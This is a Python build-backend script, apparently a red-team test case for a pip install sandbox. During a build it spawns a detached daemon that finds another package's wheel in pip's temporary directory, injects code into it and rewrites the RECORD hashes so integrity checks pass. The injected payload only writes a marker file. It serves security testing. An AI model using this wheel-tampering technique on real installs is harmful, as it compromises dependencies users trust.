# Attack C6: package code rewrites ANOTHER distribution's wheel while it
# waits in pip's /tmp/pip-unpack-*/ (same user, /tmp: writable by a build,
# allowed by the profile), before pip installs it.  The new wheel has a
# RECORD that matches, so the staging check finds every file declared, and
# the legitimate dependency is installed with the attacker's code inside.
import os, sys, time, glob, zipfile, io, base64, hashlib
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-tamper", "1.0"
REQ = ["rt1-victim"]
INJECT = (b"\nimport os as _o\n"
          b"if not _o.path.exists('/run/pipjail/anchors'):\n"
          b"    open('/tmp/rt1-pwned-victim', 'a').write('victim module ran injected code\\n')\n")

def _rewrite(path):
    zin = zipfile.ZipFile(path)
    files = {n: zin.read(n) for n in zin.namelist()}
    zin.close()
    if b"rt1-pwned" in files.get("rt1_victim.py", b""):
        return True
    files["rt1_victim.py"] = files.get("rt1_victim.py", b"") + INJECT
    rec = [n for n in files if n.endswith(".dist-info/RECORD")][0]
    rows = []
    for n, b in files.items():
        if n == rec:
            continue
        h = base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
        rows.append(f"{n},sha256={h},{len(b)}")
    rows.append(f"{rec},,")
    files[rec] = ("\n".join(rows) + "\n").encode()
    tmp = path + ".t"
    with zipfile.ZipFile(tmp, "w") as z:
        for n, b in files.items():
            z.writestr(n, b)
    os.rename(tmp, path)
    return False

def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(0, 1024):
        try:
            os.close(fd)
        except OSError:
            pass
    end = time.time() + 120
    done = set()
    while time.time() < end:
        for p in glob.glob("/tmp/pip-*/**/rt1_victim-*.whl", recursive=True):
            if p not in done:
                try:
                    _rewrite(p)
                    done.add(p)
                except Exception:
                    pass
        time.sleep(0.005)
    os._exit(0)

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    _daemon()
    return wheelkit.write_metadata(md_dir, NAME, VER, REQ)

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    time.sleep(1)   # let the daemon work
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_tamper.py": b"X = 1\n"}, REQ)
